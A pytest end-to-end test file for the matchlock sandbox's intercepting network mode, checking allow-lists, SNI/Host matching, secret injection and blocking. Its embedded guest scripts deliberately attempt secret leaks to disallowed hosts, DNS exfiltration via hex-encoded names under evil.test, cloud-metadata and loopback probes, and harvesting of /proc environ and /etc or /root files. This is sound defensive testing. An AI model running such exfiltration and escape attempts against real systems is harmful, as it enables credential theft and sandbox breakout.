"""Intercept mode with real VMs: allow-list, DNS, TLS interception, secrets, escapes, streams.

Upstreams live in a network namespace this module creates (veth pair on a free
198.18.X.0/24; see `veth_netns`): `tests/e2e/_upstream.py` serves HTTPS (own test CA, trusted
by the proxy through MATCHLOCK_UPSTREAM_CA) on X.2 (api.test, free.test, real.dns.test) and
X.3 (other.test), Python's http.server (HTTP/1.0) on :80, raw TCP on :8443, UDP sinks on
:9999 and a fake upstream DNS on X.2:53 (`--dns-servers X.2`). Every connection, request,
datagram and DNS query it sees is a JSON line in a log the tests read. A TCP server on the
host's 127.0.0.1 records anyone reaching the host's loopback. Nothing else is contacted.

Each boot runs one guest script that performs many checks and prints `R <name> <json>`
lines. The event log (`<vm dir>/logs/net.jsonl`) is read, and the state directory searched
for the real secret values, *while the VM runs*: the policy boot is `matchlock run -i`,
its guest script prints PAUSE and waits on stdin until the test has looked.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import tarfile
import time
import uuid
from pathlib import Path

import pytest

from matchlock.net.netns import NETNS_DIR
from matchlock.net.testing import write_test_pki
from tests.e2e.conftest import residue, veth_netns

pytestmark = pytest.mark.e2e

HERE = Path(__file__).parent
BIG_MB = 200
YES_LINE = "matchlock upload line 0123456789abcdefghijklmnopqrstuvwxyz"
REAL = "sk-real-" + uuid.uuid4().hex  # the host env value of TOKEN
LITERAL = "lit-real-" + uuid.uuid4().hex  # --secret LIT=<value>@api.test
PH_RE = re.compile(r"SANDBOX_SECRET_[0-9a-f]{32}")


def big_digest(mb: int) -> str:
    h = hashlib.sha256()
    for i in range(mb):
        h.update(hashlib.sha256(str(i).encode()).digest() * ((1 << 20) // 32))
    return h.hexdigest()


def yes_digest(size: int) -> str:
    line = (YES_LINE + "\n").encode()
    h = hashlib.sha256()
    full, rest = divmod(size, len(line))
    chunk = line * 4096
    for _ in range(full // 4096):
        h.update(chunk)
    h.update(line * (full % 4096) + line[:rest])
    return h.hexdigest()


class Upstreams:
    def __init__(self, ns: str, net: str, work: Path) -> None:
        self.ns, self.net, self.work = ns, net, work
        self.api, self.other, self.host = f"{net}.2", f"{net}.3", f"{net}.1"
        # 198.18/15 is a special-use range: open exactly the two upstream addresses
        self.private = ("--allow-private", f"{self.api},{self.other}")
        self.log = work / "upstream.jsonl"
        self.ca, _, _ = write_test_pki(work, ["api.test", "free.test", "other.test",
                                             "real.dns.test"])

    def mark(self) -> int:
        return len(self.log.read_text().splitlines())

    def records(self, kind: str | None = None, since: int = 0) -> list[dict]:
        rows = [json.loads(line) for line in self.log.read_text().splitlines()[since:]]
        return [r for r in rows if kind is None or r["kind"] == kind]


def file_has(path: Path, needles: tuple[bytes, ...]) -> bool:
    """Whether any needle occurs in the file; reads only the data extents of sparse files
    (the VM's 5 GB upper disk)."""
    keep = max(map(len, needles))
    with open(path, "rb") as f:
        fd, pos = f.fileno(), 0
        size = os.fstat(fd).st_size
        while pos < size:
            try:
                start = os.lseek(fd, pos, os.SEEK_DATA)
            except OSError:  # ENXIO: only a hole is left
                break
            end = os.lseek(fd, start, os.SEEK_HOLE)
            f.seek(start)
            tail, cur = b"", start
            while cur < end:
                chunk = f.read(min(8 << 20, end - cur))
                if not chunk:
                    break
                buf = tail + chunk
                if any(n in buf for n in needles):
                    return True
                tail, cur = buf[-keep:], cur + len(chunk)
            pos = end
    return False


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory):
    work = tmp_path_factory.mktemp("intercept")
    with veth_netns((2, 3)) as (ns, net):
        up = Upstreams(ns, net, work)
        up.log.touch()
        cfg = {
            "log": str(up.log), "cert": str(work / "up-leaf.pem"), "key": str(work / "up-key.pem"),
            "https": [up.api, up.other], "http": [up.api, up.other],
            "raw": [[up.api, 8443], [up.other, 8443]],
            "udp": [[up.api, 9999], [up.other, 9999]],
            "dns": [up.api, {"real.dns.test": up.api, "other.test": up.other,
                             "loop.dns.test": "127.0.0.1", "priv.dns.test": "10.1.2.3",
                             "meta.dns.test": "169.254.169.254"}],
            "ready": str(work / "ready"),
        }
        (work / "cfg.json").write_text(json.dumps(cfg))
        proc = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable,
                                 str(HERE / "_upstream.py"), str(work / "cfg.json")],
                                stderr=open(work / "upstream.err", "wb"))  # noqa: SIM115
        try:
            deadline = time.monotonic() + 15
            while not (work / "ready").exists():
                assert proc.poll() is None, (work / "upstream.err").read_text()
                assert time.monotonic() < deadline, "upstream server did not start"
                time.sleep(0.05)
            yield up
        finally:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(5)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


@pytest.fixture(scope="module")
def env(ml_env, upstreams, debian_image):
    return {**ml_env, "MATCHLOCK_UPSTREAM_CA": str(upstreams.ca), "TOKEN": REAL}


def results(stdout: str) -> dict:
    out = {}
    for line in stdout.splitlines():
        if line.startswith("R "):
            _, name, value = line.split(" ", 2)
            out[name] = json.loads(value)
    return out


def assert_vm_gone(vm_id: str, state_home: Path) -> None:
    assert re.fullmatch(r"vm-[0-9a-f]{8}", vm_id), vm_id
    assert not (NETNS_DIR / ("ml-" + vm_id[3:])).exists()
    assert not (state_home / "vms" / vm_id).exists()
    assert residue(state_home)["qemu"] == []


# The guest side: Debian bookworm with curl and python3. Helpers shared by the scripts.
GUEST_PRELUDE = r'''
import json, os, socket, ssl, subprocess, sys, time, urllib.request
def R(name, value):
    print("R", name, json.dumps(value), flush=True)
def sh(cmd, timeout=60):
    try:
        p = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=timeout)
        return p.returncode, p.stdout + p.stderr
    except subprocess.TimeoutExpired:
        return 124, "timeout"
def curl(args, timeout=20):
    rc, out = sh("curl -sS --max-time 15 -w '\\nHTTPCODE=%{http_code}\\n' " + args, timeout)
    body, _, code = out.partition("\nHTTPCODE=")
    code, _, err = code.partition("\n")
    return {"rc": rc, "code": code, "body": (body + err)[-600:]}
def tcp(ip, port, send=b"", family=socket.AF_INET):
    """What an attacker gets: 'refused', 'timeout', 'closed' (accepted, then nothing) or data."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((ip, port))
        if send:
            s.sendall(send)
        data = s.recv(100)
        return data.decode("latin-1") if data else "closed"
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return type(e).__name__ + ":" + str(e.errno)
    finally:
        s.close()
def resolve(name):
    rc, out = sh("getent hosts " + name)
    return out.split()[0] if rc == 0 and out.split() else None
'''

POLICY_SCRIPT = GUEST_PRELUDE + r'''
API, OTHER, HOSTPORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
T = os.environ["TOKEN"]
R("hostname", socket.gethostname())
R("env_token", T)
R("env_lit", os.environ["LIT"])
# allowed: no -k, no --cacert; Python urllib without flags; plain HTTP (HTTP/1.0 upstream)
R("api_curl", curl("https://api.test/hello"))
try:
    R("api_urllib", urllib.request.urlopen("https://api.test/py", timeout=15).read().decode())
except Exception as e:
    R("api_urllib", repr(e))
R("api_http", curl("http://api.test/plain"))
R("free_ok", curl("https://free.test/fine"))
# not allowed: other.test (add-hosted, so it has an address) and nope.test (not at all)
R("other_https", curl("https://other.test/x"))
R("other_http", curl("http://other.test/x"))
R("other_tcp443", tcp(OTHER, 443, b"GET / HTTP/1.0\r\n\r\n"))
R("other_tcp8443", tcp(OTHER, 8443))
R("other_k_by_ip", curl("-k https://" + OTHER + "/"))
R("nope_getent", resolve("nope.test"))
R("other_getent", resolve("other.test"))
# SNI and Host must agree
R("sni_free_host", curl("https://api.test/ -H 'Host: free.test'"))
R("sni_other_host", curl("https://api.test/ -H 'Host: other.test'"))
R("resolve_trick", curl("--resolve other.test:443:" + API + " https://other.test/"))
# secrets: header, query, JSON body (env and literal forms)
R("sec_hq", curl("'https://api.test/sec?k=" + T + "' -H 'Authorization: Bearer " + T + "'"))
body = json.dumps({"token": T, "lit": os.environ["LIT"]})
R("sec_json", curl("https://api.test/json -H 'Content-Type: application/json' -d '"
                   + body + "'"))
R("leak_query", curl("'https://free.test/leak?k=" + T + "'"))
R("leak_header", curl("https://free.test/leak -H 'X-Key: " + T + "'"))
R("leak_body", curl("https://free.test/leak -H 'Content-Type: application/json' -d '"
                    + body + "'"))
R("leak_http", curl("'http://other.test/leak?k=" + T + "'"))
# escapes: DNS
R("dns_allowed", resolve("real.dns.test"))
R("dns_evil", resolve("6d61746368." + "6c6f636b.evil.test"))
R("dns_loop", resolve("loop.dns.test"))
R("dns_meta", resolve("meta.dns.test"))
def raw_dns(server, name, qtype):
    q = os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    q += qtype.to_bytes(2, "big") + b"\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(q, (server, 53))
        r = s.recv(512)
        return {"rcode": r[3] & 15, "answers": int.from_bytes(r[6:8], "big")}
    except OSError as e:
        return type(e).__name__
for server in (API, "8.8.8.8", "10.213.0.1"):
    R("rawdns_txt_" + server, raw_dns(server, "7365637265742e.evil.test", 16))
    R("rawdns_a_" + server, raw_dns(server, "7365637265742e.evil.test", 1))
open("/etc/resolv.conf", "w").write("nameserver " + API + "\n")
R("resolv_edit_evil", resolve("72657376.evil.test"))
R("resolv_edit_allowed", resolve("real.dns.test"))
# escapes: UDP, ICMP, IPv6
for dst in (API, OTHER, "8.8.8.8"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"udp-escape", (dst, 9999))
    s.close()
def ping(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(2)
    pkt = bytearray(b"\x08\x00\x00\x00\x12\x34\x00\x01" + b"matchlock")
    c = sum(int.from_bytes(pkt[i:i + 2], "big") for i in range(0, len(pkt) - 1, 2))
    c += pkt[-1] << 8 if len(pkt) % 2 else 0
    while c >> 16:
        c = (c & 0xFFFF) + (c >> 16)
    pkt[2:4] = (~c & 0xFFFF).to_bytes(2, "big")
    try:
        s.sendto(bytes(pkt), (ip, 0))
        while True:
            data, peer = s.recvfrom(1500)
            if data[20] == 0:
                return "reply from " + peer[0]
    except OSError as e:
        return type(e).__name__
for ip in (API, "10.213.0.1"):
    R("icmp_" + ip, ping(ip))
R("ipv6_addrs", open("/proc/net/if_inet6").read() if os.path.exists("/proc/net/if_inet6")
  else "")
R("ipv6_tcp", tcp("2001:db8::1", 443, family=socket.AF_INET6))
R("ipv6_mapped", tcp("::ffff:" + API, 443, b"GET / HTTP/1.0\r\n\r\n", family=socket.AF_INET6))
# escapes: metadata, host loopback, gateway
R("meta_http", curl("http://169.254.169.254/latest/meta-data/"))
R("meta_https", curl("-k https://169.254.169.254/"))
R("meta_by_name", curl("http://meta.dns.test/"))
R("meta_tcp", tcp("169.254.169.254", 8443))
R("loop_tcp", tcp("127.0.0.1", HOSTPORT))
R("loop_host_hdr", curl("http://api.test/ -H 'Host: 127.0.0.1:%d'" % HOSTPORT))
R("loop_port", curl("http://api.test:%d/" % HOSTPORT))
R("loop_name", curl("http://loop.dns.test:%d/" % HOSTPORT))
R("gw_http", curl("http://10.213.0.1/"))
R("gw_https", curl("-k https://10.213.0.1/"))
for port in (22, 53, 8443):
    R("gw_tcp_%d" % port, tcp("10.213.0.1", port))
# what the guest holds: env, every readable /proc/*/environ, cmdline, files (printed; the
# test looks for the real values in them)
envs = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            envs.append(open("/proc/%s/environ" % pid, "rb").read().decode("latin-1"))
        except OSError:
            pass
R("proc_environ", envs)
R("proc_cmdline", open("/proc/cmdline").read())
buf = __import__("io").BytesIO()
import tarfile
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for d in ("/etc", "/root", "/tmp", "/run", "/var/tmp", "/home"):
        try:
            tar.add(d)
        except OSError:
            pass
R("files_tgz", __import__("base64").b64encode(buf.getvalue()).decode())
print("PAUSE", flush=True)
sys.stdin.readline()
'''


def test_intercept_policy_secrets_and_escapes(ml_env, env, state_home, upstreams,
                                              host_loopback, tmp_path):
    """One boot: allowed/blocked hosts, SNI/Host, secrets, DNS and every escape route."""
    up = upstreams
    host_port, hits = host_loopback
    mark = up.mark()
    cmd = [sys.executable, "-m", "matchlock", "run", "-i", "--image", "debian:test",
           "--allow-host", "api.test,free.test", "--allow-host", "*.dns.test",
           "--add-host", f"api.test:{up.api}", "--add-host", f"free.test:{up.api}",
           "--add-host", f"other.test:{up.other}", *up.private,
           "--secret", "TOKEN@api.test", "--secret", f"LIT={LITERAL}@api.test",
           "--dns-servers", up.api, "--",
           "python3", "-c", POLICY_SCRIPT, up.api, up.other, str(host_port)]
    err_path = tmp_path / "stderr"
    t0 = time.monotonic()
    with open(err_path, "wb") as err:
        p = subprocess.Popen(cmd, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=err)
    assert p.stdin is not None and p.stdout is not None
    out_lines: list[str] = []
    snapshot: dict = {}
    try:
        for raw in p.stdout:
            line = raw.decode(errors="replace")
            out_lines.append(line)
            if line.strip() == "PAUSE":
                vm_id = results("".join(out_lines))["hostname"]
                vm_dir = state_home / "vms" / vm_id
                snapshot["events"] = (vm_dir / "logs" / "net.jsonl").read_text()
                files = [f for f in state_home.rglob("*") if f.is_file()]
                assert vm_dir / "upper.ext4" in files and vm_dir / "logs" / "net.jsonl" in files
                snapshot["state_files"] = len(files)
                snapshot["state_hits"] = [
                    str(f) for f in files if file_has(f, (REAL.encode(), LITERAL.encode()))]
                p.stdin.write(b"\n")
                p.stdin.close()
        rc = p.wait(60)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    elapsed = time.monotonic() - t0
    stdout, stderr = "".join(out_lines), err_path.read_text(errors="replace")
    diag = stdout[-4000:] + stderr[-2000:]
    assert rc == 0, diag
    assert snapshot, "the guest never paused: " + diag
    r = results(stdout)
    ph = r["env_token"]
    assert PH_RE.fullmatch(ph) and PH_RE.fullmatch(r["env_lit"]), r["env_token"]

    # allowed
    assert r["api_curl"]["code"] == "200" and f"hello from {up.api} /hello" in \
        r["api_curl"]["body"], r["api_curl"]
    assert r["api_urllib"] == f"hello from {up.api} /py\n"
    assert r["api_http"]["code"] == "200", r["api_http"]
    assert f"plain hello from {up.api}" in r["api_http"]["body"]
    assert r["free_ok"]["code"] == "200", r["free_ok"]

    # not allowed: 403 naming the host and the flag; the name does not resolve
    for k in ("other_https", "other_http"):
        assert r[k]["code"] == "403", (k, r[k])
        assert "blocked request to other.test" in r[k]["body"], r[k]
        assert "--allow-host other.test" in r[k]["body"], r[k]
    assert r["other_k_by_ip"]["code"] == "403" and "other.test" in r["other_k_by_ip"]["body"]
    assert r["other_tcp443"] in ("closed", "timeout") or "Error" in r["other_tcp443"]
    assert r["other_tcp8443"] in ("closed", "timeout") or "Error" in r["other_tcp8443"]
    assert r["nope_getent"] is None
    # --add-host names are written to the guest's /etc/hosts, so other.test has an address;
    # it is still refused at the proxy (above) and never contacted (below).
    assert r["other_getent"] == up.other

    # SNI vs Host
    assert r["sni_free_host"]["code"] == "421", r["sni_free_host"]
    assert r["sni_other_host"]["code"] == "421", r["sni_other_host"]
    assert r["resolve_trick"]["code"] == "403", r["resolve_trick"]

    # secrets
    assert r["sec_hq"]["code"] == "200" and r["sec_json"]["code"] == "200"
    for k in ("leak_query", "leak_header", "leak_body", "leak_http"):
        assert r[k]["code"] == "403", (k, r[k])
    assert "TOKEN" in r["leak_query"]["body"]

    # DNS
    assert r["dns_allowed"] == up.api and r["resolv_edit_allowed"] == up.api
    for k in ("dns_evil", "dns_loop", "dns_meta", "resolv_edit_evil"):
        assert r[k] is None, (k, r[k])
    for server in (up.api, "8.8.8.8", "10.213.0.1"):
        assert r[f"rawdns_txt_{server}"] == {"rcode": 5, "answers": 0}, r  # REFUSED
        assert r[f"rawdns_a_{server}"] == {"rcode": 3, "answers": 0}, r  # NXDOMAIN

    # ICMP, IPv6
    assert not r[f"icmp_{up.api}"].startswith("reply"), r[f"icmp_{up.api}"]
    assert not r["icmp_10.213.0.1"].startswith("reply"), r["icmp_10.213.0.1"]
    # only ::1 and eth0's own link-local address (scope 0x20): nothing routable
    assert all(line.split()[-1] == "lo" or line.split()[3] == "20"
               for line in r["ipv6_addrs"].splitlines()), r["ipv6_addrs"]
    assert r["ipv6_tcp"].startswith("OSError") or "Error" in r["ipv6_tcp"], r["ipv6_tcp"]
    assert "hello" not in r["ipv6_mapped"], r["ipv6_mapped"]

    # metadata, host loopback, gateway: never an answer from a real service
    for k in ("meta_http", "meta_https", "loop_host_hdr", "gw_http", "gw_https"):
        assert r[k]["code"] in ("403", "000"), (k, r[k])
    assert r["meta_by_name"]["code"] == "000"  # the name does not resolve
    assert r["loop_name"]["code"] == "000"
    assert r["loop_port"]["code"] == "000", r["loop_port"]
    for k in ("meta_tcp", "loop_tcp", "gw_tcp_22", "gw_tcp_53", "gw_tcp_8443"):
        assert "hello" not in r[k], (k, r[k])
    assert hits == []

    # --- the upstream side ---------------------------------------------------------------
    reqs = up.records("req", mark)
    by_target = {q["target"].split("?")[0]: q for q in reqs}
    hq = by_target["/sec"]
    assert hq["target"] == f"/sec?k={REAL}" and hq["headers"]["authorization"] == \
        f"Bearer {REAL}"
    assert json.loads(by_target["/json"]["body"]) == {"token": REAL, "lit": LITERAL}
    assert "/leak" not in by_target and "/x" not in by_target
    for q in reqs:
        assert "SANDBOX_SECRET_" not in json.dumps(q), q  # no placeholder ever left
        assert not q["server"].startswith(up.other), q
    assert [c for c in up.records("conn", mark) if c["dst"].startswith(up.other + ":")] == []
    assert up.records("udp", mark) == []
    dns = up.records("dns", mark)
    names = {d["name"] for d in dns}
    assert "real.dns.test" in names, dns
    assert not [n for n in names if not n.endswith(".dns.test")], names  # no evil/nope
    assert all(d["peer"].startswith(f"('{up.host}'") for d in dns), dns

    # --- event log ---------------------------------------------------------------------------
    events = [json.loads(line) for line in snapshot["events"].splitlines()]
    kinds = {}
    for e in events:
        kinds.setdefault(e["kind"], []).append(e)
    blocked_tls = [e for e in kinds.get("blocked", []) if e["host"] == "other.test"
                   and e["fields"].get("sni") == "other.test"]
    assert blocked_tls and "--allow-host other.test" in blocked_tls[0]["detail"], events
    assert [e for e in kinds.get("sni_host_mismatch", []) if e["host"] == "api.test"]
    leaks = kinds.get("secret_leak_blocked", [])
    assert {e["host"] for e in leaks} == {"free.test"}, leaks
    assert {e["fields"]["secret"] for e in leaks} <= {"TOKEN", "LIT"}
    assert [e for e in kinds.get("secret_injected", []) if e["host"] == "api.test"]
    assert any("evil.test" in e["host"] for e in kinds.get("dns_blocked", [])), events

    # --- the real values: never in the guest, the state dir, events or matchlock's output -
    assert snapshot["state_hits"] == [], snapshot["state_hits"]
    guest_blob = json.dumps(r["proc_environ"]) + r["proc_cmdline"]
    assert ph in guest_blob and REAL not in guest_blob and LITERAL not in guest_blob
    tgz = base64.b64decode(r["files_tgz"])
    with tarfile.open(fileobj=io.BytesIO(tgz)) as tar:
        for m in tar.getmembers():
            if m.isfile():
                data = tar.extractfile(m).read()  # type: ignore[union-attr]
                assert REAL.encode() not in data and LITERAL.encode() not in data, m.name
    for text in (stdout, stderr):
        assert REAL not in text and LITERAL not in text
    assert_vm_gone(r["hostname"], state_home)
    print(f"policy boot: {elapsed:.1f} s, {len(events)} events")


OPEN_INTERCEPT_SCRIPT = GUEST_PRELUDE + r'''
HOSTPORT = int(sys.argv[1])
R("hostname", socket.gethostname())
R("api", curl("https://api.test/a"))
R("by_dns", curl("https://real.dns.test/b"))
R("other", curl("https://other.test/c"))
R("priv_name", resolve("priv.dns.test"))
R("loop_name", resolve("loop.dns.test"))
R("priv_ip", curl("http://10.1.2.3/"))
R("meta", curl("http://169.254.169.254/"))
R("loop_hdr", curl("http://api.test/ -H 'Host: 127.0.0.1:%d'" % HOSTPORT))
R("loop_tcp", tcp("127.0.0.1", HOSTPORT))
'''


def test_network_intercept_without_allow_list(ml, env, state_home, upstreams, host_loopback):
    mark = upstreams.mark()
    """--network-intercept alone: every name allowed, private ranges still blocked."""
    up = upstreams
    host_port, hits = host_loopback
    p = ml("run", "--image", "debian:test", "--network-intercept", *up.private,
           "--add-host", f"api.test:{up.api}", "--dns-servers", up.api, "--",
           "python3", "-c", OPEN_INTERCEPT_SCRIPT, str(host_port), env=env, check=True)
    r = results(p.stdout.decode())
    assert r["api"]["code"] == "200", r
    assert r["by_dns"]["code"] == "200" and f"hello from {up.api} /b" in r["by_dns"]["body"]
    assert r["other"]["code"] == "200" and f"hello from {up.other} /c" in r["other"]["body"]
    assert r["priv_name"] is None and r["loop_name"] is None
    assert r["priv_ip"]["code"] == "403" and "10.1.2.3" in r["priv_ip"]["body"], r["priv_ip"]
    assert r["meta"]["code"] == "403", r["meta"]
    assert r["loop_hdr"]["code"] == "403", r["loop_hdr"]
    assert "hello" not in r["loop_tcp"]
    assert hits == []
    assert {q["target"] for q in upstreams.records("req", mark)} == {"/a", "/b", "/c"}
    assert_vm_gone(r["hostname"], state_home)


STREAM_SCRIPT = GUEST_PRELUDE + r'''
MB, LINE = int(sys.argv[1]), sys.argv[2]
R("hostname", socket.gethostname())
t0 = time.monotonic()
resp = urllib.request.urlopen("https://api.test/sse", timeout=30)
events = []
for line in resp:
    if line.startswith(b"data:"):
        events.append([round(time.monotonic() - t0, 3), line.decode().strip()])
R("sse", events)
# WebSocket-style upgrade, raw over TLS
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection(("api.test", 443), timeout=10),
                    server_hostname="api.test")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
buf = b""
while b"hello from upstream\n" not in buf:
    d = s.recv(4096)
    if not d:
        break
    buf += d
s.sendall(b"ping over the upgrade\n")
while b"PING OVER THE UPGRADE\n" not in buf:
    d = s.recv(4096)
    if not d:
        break
    buf += d
R("ws", buf.decode("latin-1"))
s.close()
t0 = time.monotonic()
rc, out = sh("curl -sS --fail https://api.test/big/%d | sha256sum" % MB, 600)
R("down", {"rc": rc, "out": out, "s": time.monotonic() - t0})
t0 = time.monotonic()
rc, out = sh("yes '%s' | head -c %d | curl -sS --fail -T - -H 'Content-Type: text/plain' "
             "https://api.test/upload" % (LINE, MB << 20), 600)
R("up", {"rc": rc, "out": out, "s": time.monotonic() - t0})
'''


def test_streaming_sse_upgrade_and_200mb(ml, env, state_home, upstreams):
    """SSE arrives as emitted; a WebSocket-style upgrade is relayed; 200 MB each way."""
    p = ml("run", "--image", "debian:test",
           "--allow-host", "api.test", "--add-host", f"api.test:{upstreams.api}",
           *upstreams.private,
           "--secret", "TOKEN@api.test", "--",
           "python3", "-c", STREAM_SCRIPT, str(BIG_MB), YES_LINE,
           env=env, check=True, timeout=900)
    r = results(p.stdout.decode())
    sse = r["sse"]
    assert [e[1].split()[:3] for e in sse] == [["data:", "event", str(i)] for i in range(4)]
    first, last = sse[0][0], sse[-1][0]
    assert last - first > 2.5 and first < last - 2.5, sse  # not buffered until the end
    assert r["ws"].startswith("HTTP/1.1 101"), r["ws"]
    assert "hello from upstream\n" in r["ws"] and "PING OVER THE UPGRADE\n" in r["ws"]
    down, upl = r["down"], r["up"]
    assert down["rc"] == 0 and down["out"].split()[0] == big_digest(BIG_MB), down
    size = BIG_MB << 20
    assert upl["rc"] == 0 and upl["out"].split() == [yes_digest(size), str(size)], upl
    rec = [q for q in upstreams.records("req") if q["target"] == "/upload"][-1]
    assert rec["headers"].get("transfer-encoding") == "chunked", rec["headers"]
    assert_vm_gone(r["hostname"], state_home)
    print(f"SSE first event {first:.2f} s, last {last:.2f} s; "
          f"{BIG_MB} MB down {down['s']:.1f} s ({BIG_MB / down['s']:.1f} MB/s), "
          f"up {upl['s']:.1f} s ({BIG_MB / upl['s']:.1f} MB/s)")


def _one_line_error(p) -> str:
    err = p.stderr.decode().strip()
    assert p.returncode != 0
    assert len(err.splitlines()) == 1, err
    assert "Traceback" not in err
    return err


@pytest.mark.parametrize("args,needles", [
    (("--secret", "UNSET_ML_TEST_VAR@api.test"), ("UNSET_ML_TEST_VAR", "not set")),
    (("--add-host", "api.test"), ("malformed --add-host", "HOST:IP")),
    (("--add-host", "api.test:not-an-ip"), ("malformed --add-host",)),
    (("--no-network", "--allow-host", "api.test"), ("--no-network", "--allow-host")),
    (("--allow-host", "api..test"), ("invalid --allow-host glob",)),
    (("--allow-host", "**.test"), ("invalid --allow-host glob", "**")),
    (("--secret", "S=v@bad..host"), ("--secret S host",)),
])
def test_bad_network_flags(ml, state_home, args, needles):
    before = residue(state_home)
    env = {k: v for k, v in os.environ.items() if k != "UNSET_ML_TEST_VAR"}
    err = _one_line_error(ml("run", "--image", "matchlock/busybox", *args, "true", env=env))
    for n in needles:
        assert n in err, err
    assert "v@bad" not in err  # a literal secret value is never echoed
    assert residue(state_home) == before


DEBIAN_SMOKE_SCRIPT = GUEST_PRELUDE + r'''
R("hostname", socket.gethostname())
R("release", os.uname().release)
R("api", curl("-H \"Authorization: Bearer $TOKEN\" https://api.test/debian-smoke"))
R("token", os.environ["TOKEN"][:15])
R("seed", open("/workspace/in/seed.txt").read())
'''


def test_debian_fallback_kernel_smoke(ml, env, state_home, upstreams, tmp_path):
    """The smoke subset on the Debian cloud kernel (VMs boot our own by default): boot, the
    sealed intercepting network with a secret injected, a host directory snapshot. Judged
    by the upstream's own log."""
    mark = upstreams.mark()
    src = tmp_path / "in"
    src.mkdir()
    (src / "seed.txt").write_text("seed\n")
    p = ml("run", "--kernel", "debian", "--image", "debian:test", "--allow-host", "api.test",
           "--add-host", f"api.test:{upstreams.api}", *upstreams.private,
           "--secret", "TOKEN@api.test", "-v", f"{src}:/workspace/in", "--",
           "python3", "-c", DEBIAN_SMOKE_SCRIPT, env=env, check=True, timeout=300)
    r = results(p.stdout.decode())
    assert r["release"].endswith("-cloud-amd64") or r["release"].endswith("-cloud-arm64"), r
    assert r["api"]["code"] == "200", r["api"]
    assert r["token"] == "SANDBOX_SECRET_" and r["seed"] == "seed\n"
    reqs = upstreams.records("req", mark)
    assert [q["target"] for q in reqs] == ["/debian-smoke"], reqs
    assert reqs[0]["headers"]["authorization"] == f"Bearer {REAL}"
    assert_vm_gone(r["hostname"], state_home)
